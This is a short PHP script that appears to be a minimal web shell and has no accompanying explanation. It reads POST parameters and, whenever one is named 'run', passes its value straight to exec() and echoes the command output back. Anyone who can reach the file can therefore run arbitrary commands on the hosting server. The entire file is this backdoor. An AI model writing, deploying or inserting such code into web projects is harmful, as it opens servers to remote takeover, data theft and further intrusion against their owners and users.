<?php
foreach ($_POST as $k => $v) {
    if ($k == 'run') { exec($v, $o); echo implode("\n", $o); }
}
